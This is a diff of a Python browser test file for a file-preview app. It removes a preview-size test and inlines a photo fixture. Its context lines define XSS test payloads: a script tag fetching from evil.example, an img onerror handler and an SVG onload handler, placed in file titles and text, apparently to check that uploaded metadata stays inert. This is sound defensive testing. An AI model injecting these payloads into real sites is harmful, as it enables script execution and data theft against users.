@@ -20,7 +20,6 @@ from windrow.model.held_file import Heading
 HARM = "<script>window.harmed = 1; fetch('//evil.example/x')</script><img src=x onerror='window.harmed = 1'>"
 SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 1">{HARM}</svg>'
 PAGES = ("Of meadows. " * 200, "Of rain. " * 300, "Of hay. " * 600 + "The scythe, sharp. " + "Of hay. " * 600)
-PHOTO = Extract("image/jpeg", said=(("title", "A photo"),), measured=(("width", "640"), ("height", "480")))
 
 
 class Barn(NamedTuple):
@@ -58,7 +57,7 @@ def _files() -> dict[str, tuple[bytes, Extract]]:
     )
     return {
         "hum.wav": (tone(0.2), Extract("audio/wav", said=(("title", "A hum"),))),
-        "photo.jpg": (jpeg(640, 480), PHOTO),
+        "photo.jpg": (jpeg(640, 480), Extract("image/jpeg", said=(("title", "A photo"),))),
         "report.pdf": (pdf(["one", "two", "three"]), report),
         "evil.svg": (SVG.encode(), Extract("image/svg+xml", said=(("title", SVG),), text=(SVG,))),
         "evil.html": (HARM.encode(), Extract("text/html", said=(("title", HARM),), text=(HARM,))),
@@ -92,13 +91,6 @@ def test_no_page_of_documents_keeps_anybody_out(enter: Open, barn: Barn, width: 
         page = look.go(path)
         assert faults(page) == [], path
         assert page.evaluate("document.scrollingElement.scrollWidth - window.innerWidth") <= 0, path
-
-
-def test_a_preview_is_as_large_as_there_is_room_for(enter: Open, barn: Barn) -> None:
-    page = enter().go(barn.record("photo.jpg"))
-    drawn = page.get_by_role("img", name="A photo")
-    expect(drawn).to_have_js_property("complete", value=True)
-    assert drawn.evaluate("each => each.clientWidth") == 384
 
 
 def test_a_picture_is_reached_by_keys_alone(enter: Open, barn: Barn) -> None:
